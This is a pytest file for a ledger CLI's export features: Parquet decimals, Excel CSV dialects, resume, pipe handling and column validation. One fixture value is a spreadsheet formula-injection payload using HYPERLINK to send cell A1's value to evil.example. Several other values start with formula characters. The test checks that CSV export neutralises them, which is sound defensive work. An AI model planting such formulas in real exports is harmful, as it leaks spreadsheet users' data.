"""Parquet, spreadsheet-safe CSV, closed pipes, and honest warnings."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC
from decimal import Decimal
from pathlib import Path

import pytest

from thoughtcredits.testing import seed_ledger

from .conftest import Result, ThreadedServer

Cli = Callable[..., Result]

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _seed(fake: ThreadedServer) -> tuple[str, str]:
    """A client with batches whose names are formulas, and a fractional balance."""

    def build() -> tuple[str, str]:
        ledger = fake.server.ledger
        cid = ledger.add_client()
        account = ledger.create_account(cid, name="Training", starting_balance=1000)
        for name, balance in ((FORMULA, 5), ("+1 call me", Decimal("12.5")), ("@SUM(A1)", 7)):
            ledger.create_batch(
                cid, starting_balance=balance, credit_account_id=account.id, name=name
            )
        ledger.create_batch(
            cid,
            starting_balance=Decimal("123456789012345678901234.123456789012"),
            credit_account_id=account.id,
            name="-huge",
        )
        return str(cid), account.id

    return fake.call(build)


def test_parquet_amounts_are_decimal128_and_equal_the_json_export(
    fake: ThreadedServer, cli: Cli, tmp_path: Path
) -> None:
    """-o FILE.parquet: decimal128 amounts identical to the JSON export's, UTC timestamps."""
    pa = pytest.importorskip("pyarrow")
    import pyarrow.parquet as pq

    cid, _ = _seed(fake)
    assert cli("batches", "list", cid, "-o", str(tmp_path / "b.parquet")).code == 0
    assert cli("batches", "list", cid, "-o", str(tmp_path / "b.json")).code == 0
    table = pq.read_table(tmp_path / "b.parquet")
    for name in ("startingBalance", "currentBalance", "allocatedCredits"):
        assert table.schema.field(name).type == pa.decimal128(38, 12)
    assert table.schema.field("createdAt").type == pa.timestamp("us", tz="UTC")
    from_json = json.loads((tmp_path / "b.json").read_text(), parse_float=Decimal)
    rows = table.to_pylist()
    assert [row["id"] for row in rows] == [item["id"] for item in from_json]
    for row, item in zip(rows, from_json, strict=True):
        for name in ("startingBalance", "currentBalance", "allocatedCredits"):
            assert isinstance(row[name], Decimal)
            assert row[name] == Decimal(item[name])
        assert row["createdAt"].tzinfo is not None
        assert (
            row["createdAt"]
            .astimezone(UTC)
            .isoformat(timespec="milliseconds")
            .replace("+00:00", "Z")
            == item["createdAt"]
        )
    assert Decimal("123456789012345678901234.123456789012") in {
        row["startingBalance"] for row in rows
    }


def test_parquet_export_streams_in_row_groups(
    fake: ThreadedServer, cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Rows are written a row group at a time, not gathered into one table at the end."""
    pytest.importorskip("pyarrow")
    import pyarrow.parquet as pq

    from thoughtcredits._cli.output import parquet as _parquet

    monkeypatch.setattr(_parquet, "ROW_GROUP_ROWS", 50)
    seeded = fake.call(lambda: seed_ledger(fake.server.ledger, 1, 400, seed=2))
    cid, aid = str(seeded.client_ids[0]), str(seeded.account_ids[0])
    target = tmp_path / "debits.parquet"
    result = cli("actions", "list", cid, aid, "--type", "debit", "--page-size", "100",
                 "-o", str(target))  # fmt: skip
    assert result.code == 0, result
    count = len(fake.server.ledger.actions(aid, "debit"))
    metadata = pq.ParquetFile(target).metadata
    assert metadata.num_rows == count
    assert metadata.num_row_groups == -(-count // 50)


def test_csv_defuses_formulas_and_keeps_numbers(fake: ThreadedServer, cli: Cli) -> None:
    """Text starting with = + - @ gets a leading quote; amounts stay plain numbers."""
    cid, _ = _seed(fake)
    result = cli("batches", "list", cid, "--format", "csv")
    assert result.code == 0, result
    rows = list(csv.DictReader(io.StringIO(result.out)))
    names = {row["name"] for row in rows}
    assert names == {"Training", "'" + FORMULA, "'+1 call me", "'@SUM(A1)", "'-huge"}
    balances = {row["startingBalance"] for row in rows}
    assert balances == {"1000", "5", "12.5", "7", "123456789012345678901234.123456789012"}


def test_csv_dialect_excel_has_a_bom_and_crlf(fake: ThreadedServer, cli: Cli) -> None:
    """--csv-dialect excel: UTF-8 byte order mark, CRLF line ends, commas."""
    cid, _ = _seed(fake)
    result = cli("batches", "list", cid, "--format", "csv", "--csv-dialect", "excel")
    assert result.out.startswith("\ufeffid,startingBalance,")
    assert result.out.count("\r\n") == 6  # the header and five batches
    assert "\n" not in result.out.replace("\r\n", "")


def test_csv_dialect_excel_eu_uses_semicolons_and_a_decimal_comma(
    fake: ThreadedServer, cli: Cli
) -> None:
    """--csv-dialect excel-eu: ';' between cells and a decimal comma, as Excel in Europe reads."""
    cid, _ = _seed(fake)
    result = cli("batches", "list", cid, "--format", "csv", "--csv-dialect", "excel-eu")
    assert result.out.startswith("\ufeffid;startingBalance;")
    rows = list(csv.DictReader(io.StringIO(result.out.removeprefix("\ufeff")), delimiter=";"))
    assert {row["startingBalance"] for row in rows} >= {"12,5", "1000"}


def test_csv_to_a_file_resumes_without_a_second_header(
    fake: ThreadedServer, cli: Cli, tmp_path: Path
) -> None:
    """An excel CSV export has exactly one BOM and one header, also after --resume."""
    from thoughtcredits.testing import Fault

    seeded = fake.call(lambda: seed_ledger(fake.server.ledger, 1, 100, seed=4))
    cid, aid = str(seeded.client_ids[0]), str(seeded.account_ids[0])
    fake.server.inject(
        Fault(kind="delay", delay=0.0, count=1, route="list_credit_actions"),
        Fault(kind="status", status=500, count=4, route="list_credit_actions"),
    )
    from .conftest import ClockSleep

    target = tmp_path / "d.csv"
    argv = ("actions", "list", cid, aid, "--type", "debit", "--page-size", "10",
            "--csv-dialect", "excel", "-o", str(target))  # fmt: skip
    assert cli(*argv, sleep=ClockSleep()).code == 1
    assert cli(*argv, "--resume").code == 0
    text = target.read_bytes().decode("utf-8")
    assert text.count("\ufeff") == 1
    assert text.count("id,client,action") == 1
    assert len(text.splitlines()) == 1 + len(fake.server.ledger.actions(aid, "debit"))


@pytest.mark.parametrize("fmt", ["table", "json", "jsonl", "csv"])
def test_a_closed_pipe_exits_0_quietly(
    make_server: Callable[..., ThreadedServer], fmt: str
) -> None:
    """`... | head -1`: the reader goes away; the command exits 0 and prints nothing on stderr."""
    pytest.importorskip("rich")
    server = make_server()
    seeded = server.call(lambda: seed_ledger(server.server.ledger, 1, 3000, seed=6))
    cid, aid = str(seeded.client_ids[0]), str(seeded.account_ids[0])
    process = subprocess.Popen(  # noqa: S603 - our own interpreter and module
        [
            sys.executable,
            "-m",
            "thoughtcredits",
            "actions",
            "list",
            cid,
            aid,
            "--type",
            "debit",
            "--page-size",
            "1000",
            "--format",
            fmt,
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env={**os.environ, **server.env()},
    )
    assert process.stdout is not None
    assert process.stdout.readline()
    process.stdout.close()  # as `head -1` does
    _, err = process.communicate(timeout=60)
    assert (process.returncode, err) == (0, b"")


@pytest.mark.parametrize("action_type", ["refund", "DEBIT"])
def test_an_unknown_type_with_no_items_warns_and_exits_0(
    fake: ThreadedServer, cli: Cli, action_type: str
) -> None:
    """--type outside credit/debit that lists nothing says so in one line; still exit 0."""
    seeded = fake.call(lambda: seed_ledger(fake.server.ledger, 1, 20, seed=1))
    cid, aid = str(seeded.client_ids[0]), str(seeded.account_ids[0])
    result = cli("actions", "list", cid, aid, "--type", action_type)
    assert (result.code, result.out) == (0, "")
    assert result.err == (
        f"warning: no actions of type {action_type!r}; the known types are credit and debit "
        "(case-sensitive)\n"
    )


def test_unknown_columns_are_refused_naming_the_choices(fake: ThreadedServer, cli: Cli) -> None:
    """--columns with a snake_case or unknown name exits 2 and lists the wire names."""
    cid, _ = _seed(fake)
    result = cli("batches", "list", cid, "--columns", "id,current_balance")
    assert result.code == 2
    assert result.err.startswith(
        "error: --columns: unknown column current_balance; choose from id,"
    )
    assert fake.server.requests == []


def test_columns_choose_and_order_csv_cells(fake: ThreadedServer, cli: Cli) -> None:
    """--columns picks CSV columns in the order given."""
    cid, _ = _seed(fake)
    result = cli("batches", "list", cid, "--format", "csv", "--columns", "currentBalance,id")
    assert result.out.splitlines()[0] == "currentBalance,id"


def test_progress_finishes_full_when_max_items_stops_early(
    fake: ThreadedServer, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    """--max-items: the final progress line counts what was written as the whole job."""
    monkeypatch.setitem(sys.modules, "rich", None)
    seeded = fake.call(lambda: seed_ledger(fake.server.ledger, 1, 400, seed=3))
    cid, aid = str(seeded.client_ids[0]), str(seeded.account_ids[0])
    result = cli("actions", "list", cid, aid, "--type", "debit", "--page-size", "50",
                 "--max-items", "60", "--progress")  # fmt: skip
    assert result.code == 0, result
    (line,) = [line for line in result.err.splitlines() if "items," in line]
    assert line.startswith("debit actions: 60/60 items, 2 pages")


@pytest.mark.parametrize("how", [("-o", "x.parquet"), ("-o", "x.out", "--format", "parquet")])
def test_parquet_without_pyarrow_is_a_usage_error_before_any_request(
    how: tuple[str, ...],
    fake: ThreadedServer,
    cli: Cli,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Without the parquet extra: exit 2, one line naming the extra, nothing sent or left."""
    cid = str(fake.call(fake.server.ledger.add_client))
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.chdir(tmp_path)
    result = cli("batches", "list", cid, *how)
    assert result.code == 2, result
    assert result.err == (
        "error: Arrow and parquet output need pyarrow: pip install 'thoughtcredits[parquet]'\n"
    )
    assert fake.server.requests == []
    assert list(tmp_path.iterdir()) == []


def test_ten_thousand_unknown_columns_are_refused_in_one_short_line(
    fake: ThreadedServer, cli: Cli
) -> None:
    """The refusal names the first three (each cut to 40 characters) and counts the rest."""
    cid, _ = _seed(fake)
    wanted = ",".join(["x" * 100, *(f"c{n}" for n in range(10_000))])
    result = cli("batches", "list", cid, "--format", "csv", "--columns", wanted)
    assert result.code == 2
    assert result.err.startswith(
        f"error: --columns: unknown column {'x' * 39}…, c0, c1 (and 9,998 more); choose from id,"
    )
    assert len(result.err) < 600
    assert fake.server.requests == []


def test_a_column_named_twice_is_refused(fake: ThreadedServer, cli: Cli) -> None:
    """``id,amount,id`` would give a CSV whose readers keep one of two ``id`` cells."""
    cid, _ = _seed(fake)
    result = cli("batches", "list", cid, "--format", "csv", "--columns", "id,currentBalance,id")
    assert (result.code, result.out) == (2, "")
    assert result.err == "error: --columns: id is given more than once\n"
    assert fake.server.requests == []


@pytest.mark.parametrize("fmt", ["jsonl", "json", "parquet"])
def test_columns_with_a_format_that_holds_every_field_is_refused(
    fake: ThreadedServer, cli: Cli, tmp_path: Path, fmt: str
) -> None:
    """JSON and parquet hold every field; --columns is refused rather than ignored."""
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    cid, _ = _seed(fake)
    target = tmp_path / f"batches.{fmt}"
    result = cli("batches", "list", cid, "--columns", "id", "-o", str(target))
    assert (result.code, result.out) == (2, "")
    assert result.err == (
        f"error: --columns applies to table and csv output, not to {fmt} (add --format csv)\n"
    )
    assert list(tmp_path.iterdir()) == []
